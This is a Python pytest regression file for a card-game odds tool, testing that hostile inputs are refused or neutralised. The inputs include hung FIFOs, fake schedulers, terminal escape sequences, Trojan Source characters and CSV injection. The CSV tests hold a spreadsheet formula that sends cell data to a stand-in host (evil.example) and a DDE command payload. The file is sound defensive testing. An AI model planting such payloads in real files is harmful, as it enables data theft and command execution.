"""Hostile inputs found by the second hostile-input review (notes in the commit messages):
each a regression test, fast (in-process where the contract allows it)."""

from __future__ import annotations

import contextlib
import csv
import io
import json
import os
import re
import socket
import threading
import time
import tomllib
from pathlib import Path

import pytest

from exact.analysis import analyze, scale_out, simulation
from exact.analysis.removal import effects_of_removal
from exact.cards import Shoe
from exact.cli.app import main
from exact.core import parsing
from exact.errors import BetFileError, ExactError, InputError, RuleError
from exact.games import get_game
from exact.games.baccarat.coup import Rules as PuntoBancoRules
from exact.model import bets as bets_module
from exact.model.bets import game_bets, load_bets
from exact.render.output import to_csv

from tests.support.shipped import bet_files, data_file


def _bet(condition: str) -> str:
    return (f"[[bet]]\nid = \"x\"\n[[bet.event]]\nname = \"Win\"\nwhen = '''{condition}'''\n"
            "pays = 1\n")


def test_a_long_condition_failing_on_a_round_is_quoted_cut_short() -> None:
    """A condition of thousands of characters that fails on some round is quoted cut, its
    length said, in one line (it was cut by hand at 200 characters, with no length)."""
    features = list(get_game("punto-banco").features)
    members = ", ".join(map(str, range(190)))
    condition = f"player_total in {{{members}}} and 1 / (banker_total - 3) > 0"
    bet = load_bets("mine.toml", features, text=_bet(condition))[0]
    with pytest.raises(BetFileError) as error:
        bet.settle({"player_total": 1, "banker_total": 3})
    message = str(error.value)
    assert f"({len(condition)} characters)" in message, message
    assert len(message) < 300 and "\n" not in message and "division by zero" in message


# --- a FIFO (or any file that is not regular) named as an input file -----------------------------
@pytest.fixture
def short_wait(monkeypatch):
    """The wait for a FIFO's writer cut to a fraction of a second (30 s in a real run)."""
    monkeypatch.setattr(parsing, "MAX_READ_SECONDS", 0.2)


@pytest.mark.parametrize("argv", [
    ("analyze", "punto-banco", "--decks", "1", "--bets", "{f}", "--bet", "tie"),
    ("analyze", "punto-banco", "--decks", "1", "--table", "{f}"),
    ("analyze", "century21", "--decks", "1", "--rules", "{f}"),
    ("edge", "punto-banco", "--decks", "1", "--seen", "{f}", "--bet", "tie"),
    ("settle", "century21", "--table", "{f}"),
], ids=["bets", "table", "rules", "seen", "settle-table"])
def test_a_fifo_no_one_writes_is_refused_in_bounded_time(tmp_path: Path, capsys, short_wait,
                                                         argv: tuple[str, ...]) -> None:
    """Opening a FIFO for reading waits for a writer, forever if none comes: the run hung
    (every command's every input file). Now it waits MAX_READ_SECONDS, then one line."""
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    done = threading.Event()

    def rescue() -> None:  # a regression must fail the test, not hang the suite
        if not done.wait(10):
            with contextlib.suppress(OSError), open(fifo, "wb"):
                pass

    threading.Thread(target=rescue, daemon=True).start()
    started = time.monotonic()
    try:
        assert main([a.format(f=fifo) for a in argv]) == 2
    finally:
        done.set()
    assert time.monotonic() - started < 10
    err = capsys.readouterr().err
    assert len(err.splitlines()) == 1 and "not written whole within 0.2 s" in err, err


def test_a_fifo_that_is_written_is_read(tmp_path: Path) -> None:
    """A FIFO (a shell's ``<(command)``) whose writer comes is read whole as before."""
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    text = "AS KH " * 20_000  # more than a pipe's buffer: several reads

    def write() -> None:
        time.sleep(0.1)  # after the reader opened it: the reader must wait, not see an end
        with open(fifo, "w") as stream:
            stream.write(text)

    writer = threading.Thread(target=write)
    writer.start()
    try:
        assert parsing.read_user_file(fifo, "seen cards") == text
    finally:
        writer.join()


def test_an_endless_device_is_cut_at_the_size_limit() -> None:
    with pytest.raises(InputError, match="larger than 4 MiB"):
        parsing.read_user_file("/dev/zero", "rules")


# --- simulate --scheduler: an address that is not a Dask scheduler, or one with no worker -------
def _server(answer: bytes | None) -> tuple[socket.socket, str]:
    """A TCP server on a free local port that accepts and sends ``answer`` (None: nothing,
    ever), as a stranger at a --scheduler address would."""
    server = socket.create_server(("127.0.0.1", 0))
    accepted: list[socket.socket] = []

    def serve() -> None:
        with contextlib.suppress(OSError):
            while True:
                connection, _ = server.accept()
                accepted.append(connection)  # kept open: a silent peer, not a closed one
                if answer is not None:
                    connection.sendall(answer)

    threading.Thread(target=serve, daemon=True).start()
    return server, f"tcp://127.0.0.1:{server.getsockname()[1]}"


SIMULATE = ["simulate", "punto-banco", "--decks", "1", "--shoes", "1", "--seed", "1",
            "--bet", "tie", "--scheduler"]


@pytest.mark.parametrize("answer", [None, b"HTTP/1.1 400 Bad Request\r\n\r\n"],
                         ids=["silent", "http"])
def test_a_scheduler_address_that_is_no_scheduler(capsys, monkeypatch, answer) -> None:
    """A server that accepts and says nothing held the run forever (Dask times out the TCP
    connection only); one that answers HTTP made Dask allocate exabytes: a MemoryError
    traceback. Both are one line, in bounded time."""
    pytest.importorskip("distributed")
    monkeypatch.setattr(scale_out, "SCHEDULER_SECONDS", 0.5)
    server, address = _server(answer)
    try:
        started = time.monotonic()
        assert main([*SIMULATE, address]) == 2
        assert time.monotonic() - started < 15
    finally:
        server.close()
    err = capsys.readouterr().err
    assert len(err.splitlines()) == 1 and "cannot reach the Dask scheduler" in err, err
    assert "Traceback" not in err and len(err) < 300


def test_a_scheduler_with_no_worker_is_refused(monkeypatch) -> None:
    """Jobs given to a scheduler no worker ever joins are never done: the run waited forever.
    (A stand-in client: a real cluster's start takes seconds, more on a busy machine.)"""
    closed = []

    class NoWorkers:
        def __init__(self, address: str, timeout: float) -> None:
            self.address = address

        def wait_for_workers(self, n_workers: int, timeout: float) -> None:
            raise TimeoutError(f"only 0/{n_workers} workers arrived after {timeout}")

        def close(self) -> None:
            closed.append(self.address)

    monkeypatch.setattr(scale_out, "SCHEDULER_SECONDS", 0.1)
    with pytest.raises(simulation.SimulationError, match="has no worker"):
        scale_out._connected(NoWorkers, "tcp://127.0.0.1:8786")
    assert closed == ["tcp://127.0.0.1:8786"]


# --- the library's entry points given the wrong types ------------------------------------------
@pytest.mark.parametrize(("call", "names"), [
    (lambda game, shoe: analyze(game, None), "shoe must be a Shoe"),
    (lambda game, shoe: analyze(game, "8"), "shoe must be a Shoe"),
    (lambda game, shoe: analyze(None, shoe), "game must be a game"),
    (lambda game, shoe: analyze("punto-banco", shoe), "game must be a game"),
    (lambda game, shoe: analyze(game, shoe, bets=5), "bets must be a list"),
    (lambda game, shoe: analyze(game, shoe, bets="tie"), "bets must be a list"),
    (lambda game, shoe: analyze(game, shoe, bets=["tie"]), "bets must be bets"),
    (lambda game, shoe: analyze(game, shoe, engine=None), "engine must be"),
    (lambda game, shoe: shoe.remove(5), "cards must be text"),
    (lambda game, shoe: shoe.remove(None), "cards must be text"),
    (lambda game, shoe: shoe.remove(b"AS"), "cards must be text"),
    (lambda game, shoe: shoe.remove([5]), "a card must be text"),
    (lambda game, shoe: shoe.count(None), "a card must be text"),
    (lambda game, shoe: analyze(game, shoe, bets=[None]), "bets must be bets"),
    (lambda game, shoe: get_game(["punto-banco"]), "unknown game"),
    (lambda game, shoe: Shoe.parse(None), "Shoe.parse: text must be text"),
    (lambda game, shoe: Shoe.from_counts(None), "Shoe.from_counts: counts must be a mapping"),
    (lambda game, shoe: Shoe(None), "Shoe: counts must be a tuple"),
    (lambda game, shoe: load_bets(None, game.features), "load_bets: source must be"),
    (lambda game, shoe: load_bets("x", game.features, text=b"x"), "load_bets: text must be"),
    (lambda game, shoe: load_bets("x", None, text=""), "load_bets: features must be"),
    (lambda game, shoe: load_bets("x", "winner", text=""), "load_bets: features must be"),
    (lambda game, shoe: game_bets(None), "game_bets: game must be a game"),
    (lambda game, shoe: effects_of_removal(game, None, []), "effects_of_removal: shoe must"),
    (lambda game, shoe: effects_of_removal(game, shoe, None), "effects_of_removal: bets must"),
    (lambda game, shoe: effects_of_removal(game, shoe, ["tie"]), "effects_of_removal: bets must"),
    (lambda game, shoe: simulation.simulate(None, shoes=1, seed=1), "simulate: config must be"),
], ids=["shoe-None", "shoe-str", "game-None", "game-id", "bets-int", "bets-str", "bets-ids",
        "engine-None", "remove-int", "remove-None", "remove-bytes", "remove-[int]", "count-None",
        "bets-[None]", "get_game-list", "Shoe.parse", "Shoe.from_counts", "Shoe",
        "load_bets-source", "load_bets-text", "load_bets-features", "load_bets-feature-str",
        "game_bets", "eor-shoe", "eor-bets", "eor-ids", "simulate"])
def test_the_api_given_wrong_types_raises_a_typed_error(call, names) -> None:
    """Each was an AttributeError or TypeError from deep inside (analyze(None, shoe) even said
    None was "a strategy game"): now an ExactError (a TypeError too) naming the argument."""
    game, shoe = get_game("punto-banco"), Shoe.standard(1)
    with pytest.raises(ExactError, match=names):
        call(game, shoe)


# --- names from user files reach the terminal: plain text only ---------------------------------
ESCAPE = "\\u001b]52;c;ZWNobyBoaQ==\\u0007"  # TOML for OSC 52: writes the terminal's clipboard


@pytest.mark.parametrize(("key", "value"), [
    ("name", f'"{ESCAPE}"'), ("description", f'"{ESCAPE}"'), ("group", '"\\u202egroup"'),
    ("paytable", '"\\u009b2J"'), ("name", "[1, 2]"), ("name", "{ a = 1 }"),
])
def test_bet_text_with_control_characters_or_of_another_type_is_refused(key, value) -> None:
    """A bet's name, description, group... went to standard output as written (escape
    sequences and bidirectional overrides included), and a table or array as its repr."""
    text = (f'[[bet]]\nid = "x"\n{key} = {value}\n[[bet.event]]\nname = "W"\n'
            "when = \"winner == 'tie'\"\npays = 8\n")
    with pytest.raises(BetFileError, match=f"bet 'x': {key}"):
        load_bets("mine.toml", list(get_game("punto-banco").features), text=text)


def test_an_event_name_with_an_escape_is_refused_and_a_description_may_have_lines() -> None:
    features = list(get_game("punto-banco").features)
    event = '[[bet.event]]\nname = "{name}"\nwhen = "winner == \'tie\'"\npays = 8\n'
    with pytest.raises(BetFileError, match="event name '\\\\x1b"):
        load_bets("m.toml", features, text='[[bet]]\nid = "x"\n' + event.format(name=ESCAPE))
    bet = load_bets("m.toml", features, text='[[bet]]\nid = "x"\ndescription = "a\\n\\tb"\n'
                    + event.format(name="Tie"))[0]
    assert bet.description == "a\n\tb"


@pytest.mark.parametrize("game", ["punto-banco", "chemin-de-fer", "century21"])
@pytest.mark.parametrize("key", ["id", "name"])
def test_rule_names_with_control_characters_are_refused(tmp_path: Path, capsys, game: str,
                                                        key: str) -> None:
    """A rule file's id and name are printed with every analysis ("Rules: NAME (ID)")."""
    shipped = data_file(game.replace("-", "_"), "rules.toml").read_text()
    line = f'{key} = "{ESCAPE}"'
    text = "\n".join(line if row.startswith(f"{key} = ") else row
                     for row in shipped.splitlines())
    if f"\n{key} = " not in "\n" + shipped:
        text = f"{line}\n{text}"
    rules = tmp_path / "rules.toml"
    rules.write_text(text)
    if game == "punto-banco":  # its rule files are the library's only (Rules.load)
        with pytest.raises(RuleError, match=f"rule {key} .*U\\+001B"):
            PuntoBancoRules.load(rules)
        return
    assert main(["analyze", game, "--decks", "1", "--rules", str(rules)]) == 2
    captured = capsys.readouterr()
    assert f"rule {key}" in captured.err and "U+001B" in captured.err, captured.err
    assert "\x1b" not in captured.out + captured.err


@pytest.mark.parametrize(("change", "problem"), [
    ("win_pays_by_total = [1, 2]", "[win_pays_by_total] must be a table"),
    ("[collection]\ntable_tags = [{ fee = 1 }]", "table_tags entry 1: missing max_bet, min_bet"),
])
def test_century21_rule_files_of_the_wrong_shape_say_what_is_wrong(tmp_path: Path, capsys,
                                                                    change, problem) -> None:
    """They said "malformed rule: 'list' object has no attribute 'items'" and "malformed
    rule: 'min_bet'" (Python's own messages)."""
    rules = tmp_path / "rules.toml"
    rules.write_text(change + "\n")
    assert main(["analyze", "century21", "--decks", "1", "--rules", str(rules)]) == 2
    err = capsys.readouterr().err
    assert problem in err and "object" not in err, err


def test_a_cache_directory_named_past_the_system_limit_warns_in_short_lines(
        tmp_path: Path, capsys, monkeypatch) -> None:
    """A 5,000-character EXACT_CACHE_DIR: the run succeeds; each warning naming an entry was
    500 characters of the path; now the path is cut as every file name is."""
    monkeypatch.setenv("EXACT_CACHE_DIR", str(tmp_path / ("x" * 5000)))
    assert main(["analyze", "punto-banco", "--decks", "1", "--bet", "tie"]) == 0
    err = capsys.readouterr().err
    assert all(len(line) < 300 for line in err.splitlines()), err


def test_settle_with_a_thousand_cards_is_one_short_line(capsys) -> None:
    """The extra cards were all quoted: 3,000 characters."""
    assert main(["settle", "punto-banco", "--cards", "9S " * 1000, "--wager", "banker=1"]) == 2
    err = capsys.readouterr().err
    assert len(err.splitlines()) == 1 and len(err) < 300 and "and 991 more" in err, err


def test_a_wager_fitting_no_table_tag_of_thousands_is_one_short_line() -> None:
    from exact.games.century21.rules import Rules

    tags = [{"min_bet": 2 * i + 1, "max_bet": 2 * i + 1, "fee": 1} for i in range(2000)]
    rules = Rules.from_mapping({"collection": {"table_tags": tags}})
    with pytest.raises(RuleError, match="fits no table tag") as error:
        rules.collection_fee(2)
    assert len(str(error.value)) < 300


@pytest.mark.parametrize("epoch", ["-99999999999999", "99999999999999999", "\u0663", "1e9"])
def test_a_source_date_epoch_no_date_can_show_is_refused(monkeypatch, epoch: str) -> None:
    """A negative or huge epoch was a ValueError traceback from the report's date, or "cannot
    write: Value too large"; Arabic-Indic digits were read as a date."""
    from exact.errors import ReportError, SpreadsheetError
    from exact.render.spreadsheet import workbook_bytes
    from exact.reports.cover import build_epoch

    pytest.importorskip("xlsxwriter")
    monkeypatch.setenv("SOURCE_DATE_EPOCH", epoch)
    with pytest.raises(ReportError, match="must be a Unix time"):
        build_epoch()
    with pytest.raises(SpreadsheetError, match="must be a Unix time"):
        workbook_bytes("t", [], [])


@pytest.mark.parametrize(("old", "new", "problem"), [
    ("decks = 6", "decks = 0", "decks 0 is outside 1 to 64"),
    ("naturals = [8, 9]", "naturals = [nan]", "rule naturals 'NaN': is not a number"),
    ("player_draws_on_five = true", 'player_draws_on_five = "true"',
     "[house_way]: rule player_draws_on_five must be true or false, not text"),
])
def test_a_chemin_de_fer_rule_error_names_the_file_and_the_rule(tmp_path: Path, old, new,
                                                                problem) -> None:
    """They named neither ("decks 0 is outside 1 to 64", "expected true or false, got ...")."""
    from exact.games.chemin_de_fer.rules import Rules

    shipped = data_file("chemin_de_fer", "rules.toml").read_text()
    assert old in shipped
    rules = tmp_path / "rules.toml"
    rules.write_text(shipped.replace(old, new))
    with pytest.raises(RuleError, match=f"^{re.escape(str(rules))}: {re.escape(problem)}"):
        Rules.load(rules)


# --- bounded work whatever a bet file holds (third review) --------------------------------------
def _bets(count: int, events: int = 1, paytables: int = 0) -> str:
    """``count`` bets of ``events`` events and ``paytables`` alternative paytables each."""
    event = "[[bet.event]]\nname = \"e{j}\"\nwhen = \"player_total == {k}\"\npays = 1\n"
    return "".join(
        f'[[bet]]\nid = "b{i}"\n'
        + "".join(event.format(j=j, k=j % 10) for j in range(events))
        + "".join(f'[bet.paytables."p{k}"]\ne0 = 2\n' for k in range(paytables))
        for i in range(count))


@pytest.mark.parametrize(("bound", "most", "file", "message"), [
    ("MOST_BETS", 6, lambda n: _bets(n), "[[bet]] tables: at most 6 a file"),
    ("MOST_EVENTS", 6, lambda n: _bets(1, events=n), "bet 'b0': 7 [[bet.event]] tables: at most 6"),
    ("MOST_PAYTABLES", 6, lambda n: _bets(1, paytables=n),
     "bet 'b0': 7 alternative paytables: at most 6 a bet"),
    ("MOST_FILE_EVENTS", 6, lambda n: _bets(n, events=1) if n < 7 else _bets(1, events=3)
     + _bets(2, events=2).replace('"b', '"c'), "bet 'c1': passes 6 [[bet.event]] tables in"),
    ("MOST_FILE_PAYTABLES", 6, lambda n: _bets(n, paytables=1) if n < 7 else
     _bets(1, paytables=3) + _bets(2, paytables=2).replace('"b', '"c'),
     "bet 'c1': passes 6 alternative paytables in the file"),
])
def test_a_bet_file_past_a_bound_is_refused_and_one_at_it_is_read(monkeypatch, bound, most, file,
                                                                  message) -> None:
    """10,000 events took 42 s to analyse, 10,000 paytables 32 s, 5,000 bets 33 s, with no
    bound: a 4 MiB file, many minutes. Each bound is lowered here to keep the test fast; the
    real ones are checked below against the shipped files."""
    monkeypatch.setattr(bets_module, bound, most)
    features = list(get_game("punto-banco").features)
    assert load_bets("mine.toml", features, text=file(most))
    with pytest.raises(BetFileError) as error:
        load_bets("mine.toml", features, text=file(most + 1))
    assert str(error.value).startswith("mine.toml: ") and message in str(error.value)
    assert "\n" not in str(error.value)


def test_the_bet_file_bounds_are_far_above_the_shipped_files_and_documented() -> None:
    """Every shipped or test bet file is well within the bounds (a bound is a limit for
    hostile files, not for real ones), and the site's Input limits states each one."""
    readme = (Path(__file__).parents[2] / "docs" / "explanation" / "input-limits.md").read_text(
        encoding="utf-8")
    files = [*bet_files(), *(Path(__file__).parents[1] / "data").glob("*.toml")]
    bets = [b for f in files for b in tomllib.loads(f.read_text(encoding="utf-8"))["bet"]]
    per_file = max(len(tomllib.loads(f.read_text(encoding="utf-8"))["bet"]) for f in files)
    assert per_file * 10 <= bets_module.MOST_BETS
    assert max(len(b["event"]) for b in bets) * 10 <= bets_module.MOST_EVENTS
    assert max(len(b.get("paytables", {})) for b in bets) * 10 <= bets_module.MOST_PAYTABLES
    for most, what in ((bets_module.MOST_BETS, "bets"), (bets_module.MOST_EVENTS, "events"),
                       (bets_module.MOST_PAYTABLES, "alternative paytables a\nbet"),
                       (bets_module.MOST_FILE_EVENTS, "events"),
                       (bets_module.MOST_FILE_PAYTABLES, "alternative paytables in all")):
        assert f"**{most:,} {what}" in readme, (most, what)


def test_a_name_of_megabytes_is_refused_in_a_bet_or_rule_file(tmp_path: Path, capsys) -> None:
    features = list(get_game("punto-banco").features)
    name = "n" * (parsing.NAME_LONGEST + 1)
    with pytest.raises(BetFileError, match=r"bet 'x': name 'nnn.*at most 200 characters"):
        load_bets("m.toml", features, text=f'[[bet]]\nid = "x"\nname = "{name}"\n'
                  '[[bet.event]]\nname = "W"\nwhen = "winner == \'tie\'"\npays = 8\n')
    at_most = load_bets("m.toml", features, text=f'[[bet]]\nid = "x"\nname = "{name[1:]}"\n'
                        '[[bet.event]]\nname = "W"\nwhen = "winner == \'tie\'"\npays = 8\n')
    assert at_most[0].name == name[1:]
    rules = data_file("century21", "rules.toml").read_text(encoding="utf-8")
    rules = re.sub(r"^name = .*$", f'name = "{"x" * 100_000}"', rules, flags=re.M)
    (tmp_path / "r.toml").write_text(rules, encoding="utf-8")
    assert main(["analyze", "century21", "--rules", str(tmp_path / "r.toml")]) == 2
    error = capsys.readouterr().err
    assert "rule name" in error and "at most 200 characters" in error and len(error) < 300


@pytest.mark.parametrize(("values", "message"), [
    ("1, " * 2_000 + "1", "2,001 values, at most 10"),
    ("1, 1", "each total at most once"),
])
def test_century21_joker_values_repeated_are_refused(tmp_path: Path, capsys, values,
                                                     message) -> None:
    """200,000 repeats of one total were read (9 s) and kept (2,000 here, to be fast)."""
    rules = data_file("century21", "rules.toml").read_text(encoding="utf-8")
    rules = re.sub(r"^joker_values = .*$", f"joker_values = [{values}]", rules, flags=re.M)
    (tmp_path / "r.toml").write_text(rules, encoding="utf-8")
    assert main(["analyze", "century21", "--rules", str(tmp_path / "r.toml")]) == 2
    error = capsys.readouterr().err
    assert "joker_values" in error and message in error and len(error) < 300


# --- CSV injection ------------------------------------------------------------------------------
# ids (bet, paytable) are ASCII letters, digits and - _ . % (=HYPERLINK(...) or +cmd|... are
# refused as ids, see test_formula_ids_are_refused_as_ids); one starting with "-" is a formula
HOSTILE_NAMES = {"b": "-2-HYPERLINK", "p": "-cmd.A0", "e": "-2+3", "f": "@SUM(1+1)"}
FORMULA_IDS = ("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+cmd|' /C calc'!A0")


def _named_bet(names: dict[str, str]) -> str:
    quoted = {key: json.dumps(name) for key, name in names.items()}  # a TOML basic string
    return (f'[[bet]]\nid = {quoted["b"]}\nname = "Hostile"\npaytable = {quoted["p"]}\n'
            f'[[bet.event]]\nname = {quoted["e"]}\nwhen = "winner == \'tie\'"\npays = 8\n'
            f'[[bet.event]]\nname = {quoted["f"]}\nwhen = "winner == \'banker\'"\n'
            'pays = "lose"\n')


def test_formula_ids_are_refused_as_ids() -> None:
    game = get_game("punto-banco")
    for formula in FORMULA_IDS:
        for key in ("b", "p"):
            names = {"b": "tie-bet", "p": "standard", "e": "Tie", "f": "Banker", key: formula}
            with pytest.raises(BetFileError, match="ids are ASCII letters"):
                load_bets("m.toml", game.features, text=_named_bet(names))


def test_csv_text_cells_cannot_run_as_formulas_and_numbers_are_unchanged() -> None:
    """Bet ids, paytable and event names came from user files into CSV cells as written:
    Excel runs ``=HYPERLINK(...)`` (or ``+``, ``-``, ``@``...) as a formula. The same bets
    named plainly give the same numeric cells, and plain names stay as written."""
    game, shoe = get_game("punto-banco"), Shoe.standard(1)
    plain = {"b": "tie-bet", "p": "standard", "e": "Tie", "f": "Banker"}
    rows = {}
    for label, names in (("hostile", HOSTILE_NAMES), ("plain", plain)):
        bets = load_bets("m.toml", game.features, text=_named_bet(names))
        rows[label] = list(csv.reader(io.StringIO(to_csv(analyze(game, shoe, bets)))))
    header = rows["plain"][0]
    text = {header.index(c) for c in ("game", "counting_unit", "bet", "paytable", "event")}
    assert len(rows["hostile"]) == len(rows["plain"]) == 4  # header, two events, otherwise
    for hostile, plain_row in zip(rows["hostile"][1:], rows["plain"][1:], strict=True):
        for column, (cell, plain_cell) in enumerate(zip(hostile, plain_row, strict=True)):
            if column not in text:  # negative numbers (-1, -0.0123) are not text to quote
                assert cell == plain_cell and not cell.startswith("'"), header[column]
            elif plain_cell in plain.values():
                original = HOSTILE_NAMES[next(k for k, v in plain.items() if v == plain_cell)]
                assert cell == "'" + original, (cell, original)
            else:
                assert cell == plain_cell and not cell.startswith("'")
    assert any(row[header.index("return_float")].startswith("-") for row in rows["hostile"])


# --- look-alike names in conditions -------------------------------------------------------------
@pytest.mark.parametrize(("condition", "character"), [
    ("ｐlayer_total == 5", "'ｐ' (U+FF50)"),      # NFKC: Python would read player_total
    ("player_total == ５", "'５' (U+FF15)"),
    ("player_total ≤ 5", "'≤' (U+2264)"),
])
def test_a_condition_with_a_look_alike_character_is_refused(condition, character) -> None:
    """Python's parser reads names NFKC-normalised: a full-width ``ｐlayer_total`` was
    evaluated as ``player_total`` while the condition shown read otherwise."""
    features = get_game("punto-banco").features
    with pytest.raises(BetFileError) as error:
        load_bets("m.toml", features, text=_bet(condition))
    message = str(error.value)
    assert message.startswith("m.toml: bet 'x', event 'Win': non-ASCII character " + character)
    assert "\n" not in message


@pytest.mark.parametrize("condition", ["winner == 'ｐlayer'", "winner == 'tie'  # égalité"])
def test_text_inside_a_string_literal_or_a_comment_may_be_any_character(condition) -> None:
    bet = load_bets("m.toml", list(get_game("punto-banco").features), text=_bet(condition))[0]
    assert bet.features == frozenset({"winner"})


@pytest.mark.parametrize("condition", ["winner == 'tie'  # \u202e", "winner == '\u202etie'"])
def test_a_bidirectional_control_is_refused_even_in_a_comment_or_a_literal(condition) -> None:
    """U+202E reorders the rest of the line on screen (Trojan Source): what is shown would not
    be what runs."""
    with pytest.raises(BetFileError, match=r"bidirectional control U\+202E"):
        load_bets("m.toml", list(get_game("punto-banco").features), text=_bet(condition))


@pytest.mark.parametrize("argv", [
    ["analyze", "chemin-de-fer", "--with-replacement"],
    ["analyze", "century21", "--decks", "1"],
    ["simulate", "century21", "--shoes", "1", "--seed", "1", "--decks", "1"],
], ids=["analyze-chemin-de-fer", "analyze-century21", "simulate-century21"])
def test_a_rule_file_is_read_once(argv, tmp_path: Path, monkeypatch, capsys) -> None:
    """A rule file is read once a run: the assumptions printed with the result were written
    from a second read, and a pipe (`--rules <(cat rules.toml)`) gave nothing the second time
    (chemin de fer: an error after the work; 21st Century: the default rules' assumptions)."""
    from exact.model import game as game_module

    game_id = argv[1].replace("-", "_")
    rules = tmp_path / "rules.toml"
    rules.write_bytes(data_file(game_id, "rules.toml").read_bytes())
    reads: list[str] = []
    real = game_module.read_user_file

    def counted(path, *rest, **options):
        reads.append(str(path))
        return real(path, *rest, **options)

    monkeypatch.setattr(game_module, "read_user_file", counted)
    monkeypatch.setattr(parsing, "read_user_file", counted)
    import exact.cli.counting as counting
    monkeypatch.setattr(counting, "read_user_file", counted)
    assert main([*argv, "--rules", str(rules)]) == 0, capsys.readouterr().err
    assert reads.count(str(rules)) == 1
